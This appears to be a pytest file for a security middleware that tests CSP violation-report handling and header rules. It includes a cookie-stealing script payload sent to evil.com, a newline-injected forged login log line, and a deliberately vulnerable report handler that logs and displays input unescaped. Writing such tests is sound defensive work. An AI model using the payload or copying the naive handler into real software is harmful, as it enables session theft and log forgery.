"""Reports that anybody can send, and headers that a route may loosen (CWE-79, CWE-117,
CWE-525, CWE-693, CWE-779)."""

import json
from contextlib import asynccontextmanager

import pytest
from httpx2 import ASGITransport, AsyncClient
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, JSONResponse, Response
from starlette.routing import Route
from tests.attacks.serving import lifespan

import ringfence
from ringfence import Guard, Settings, access
from ringfence.errors import PlanError, SettingsError

pytestmark = pytest.mark.anyio

SHOP = "http://127.0.0.1:8000"
PATH = "/.well-known/ringfence-reports"
OLD = {"content-type": "application/csp-report"}
FORGED = '{"event":"authn_login_success","account":"admin"}'
MARKUP = "<script>fetch('https://evil.com/?' + document.cookie)</script>"


def report(**fields):
    named = {name.replace("_", "-"): value for name, value in fields.items()}
    return {"csp-report": {"document-uri": f"{SHOP}/", **named}}


def naive(folder):
    """An application that takes reports as tutorials show it."""
    log = folder / "reports.log"

    async def take(request):
        violation = (await request.json())["csp-report"]
        with log.open("a") as file:
            file.write(f"csp {violation['blocked-uri']} {violation['script-sample']}\n")
        return Response(status_code=204)

    async def show(request):
        return HTMLResponse(log.read_text())

    return Starlette(
        routes=[Route(PATH, take, methods=["POST"]), Route("/reports", show)]
    )


async def hello(request):
    return JSONResponse({})


@asynccontextmanager
async def guarded(folder):
    """A guarded application and somebody on the same machine; at the end the ledger
    is written."""
    app = Starlette(routes=access.routes([Route("/", hello)], access.public))
    guard = Guard(app, Settings.load(environ={}, env="development", data=folder))
    transport = ASGITransport(guard, client=("127.0.0.1", 4711))
    async with (
        lifespan(guard) as reason,
        AsyncClient(transport=transport, base_url=SHOP) as client,
    ):
        assert reason == ""
        yield client


@pytest.fixture
def bare(tmp_path):
    transport = ASGITransport(naive(tmp_path))
    return AsyncClient(transport=transport, base_url=SHOP)


def lines(folder, event=""):
    found = (folder / "audit.jsonl").read_text("utf-8").splitlines()
    return [line for line in found if f'"event":"{event}' in line]


async def test_a_report_forges_no_line_of_the_log(bare, tmp_path):
    body = report(blocked_uri=f"inline\n{FORGED}", script_sample="")
    await bare.post(PATH, json=body, headers=OLD)
    log = (tmp_path / "reports.log").read_text().splitlines()
    assert FORGED in [line.strip() for line in log]
    async with guarded(tmp_path) as shop:
        await shop.post(PATH, json=body, headers=OLD)
    (line,) = lines(tmp_path, "browser_report")
    assert "\\n" not in line
    assert not lines(tmp_path, "authn_login_success")
    assert json.loads(line)["event"] == "browser_report"


async def test_a_report_is_shown_to_nobody_as_a_page(bare, tmp_path):
    """It is the attacker's text: whoever looks at reports is an operator."""
    body = report(blocked_uri="inline", script_sample=MARKUP)
    await bare.post(PATH, json=body, headers=OLD)
    assert MARKUP in (await bare.get("/reports")).text
    async with guarded(tmp_path) as shop:
        answer = await shop.post(PATH, json=body, headers=OLD)
        assert (answer.status_code, answer.content) == (204, b"")
        for path in (PATH, "/reports"):
            assert MARKUP not in (await shop.get(path)).text


async def test_reports_hide_no_attack(tmp_path):
    """A flood that costs a stranger nothing, with the try at a break-in within it."""
    body = report(blocked_uri="inline")
    async with guarded(tmp_path) as shop:
        for number in range(80):
            await shop.post(PATH, json=body, headers=OLD)
            if number == 40:
                evil = {"origin": "https://evil.example"}
                await shop.post("/auth/login", json={}, headers=evil)
    assert len(lines(tmp_path, "request_refused")) == 1
    assert 10 <= len(lines(tmp_path, "browser_report")) <= 30


async def test_what_another_site_makes_its_visitors_report_is_not_written(tmp_path):
    foreign = {"csp-report": {"document-uri": "https://evil.example/"}}
    from_there = {**OLD, "sec-fetch-site": "cross-site"}
    async with guarded(tmp_path) as shop:
        await shop.post(PATH, json=foreign, headers=OLD)
        await shop.post(PATH, json=report(), headers=from_there)
        await shop.post(PATH, json=report(blocked_uri="inline"), headers=OLD)
    (line,) = lines(tmp_path, "browser_report")
    assert json.loads(line)["blocked"] == "inline"


async def test_a_page_is_not_loosened_by_the_way():
    """What lets injected scripts run stands out where it is written, or it does not
    start."""
    with pytest.raises(SettingsError, match="because="):
        ringfence.headers(csp={"script-src": "'self' 'unsafe-inline'"})
    with pytest.raises(SettingsError, match="because="):
        ringfence.headers(csp={"frame-ancestors": "*"})


async def test_private_answers_are_not_declared_public(tmp_path):
    """A shared cache would show one visitor's page to the next."""
    shared = ringfence.headers(cache="public, max-age=600")
    routes = access.routes([Route("/me", hello)], access.signed_in, shared)
    settings = Settings.load(environ={}, env="development", data=tmp_path)
    with pytest.raises(PlanError, match="not everybody"):
        Guard(Starlette(routes=routes), settings)
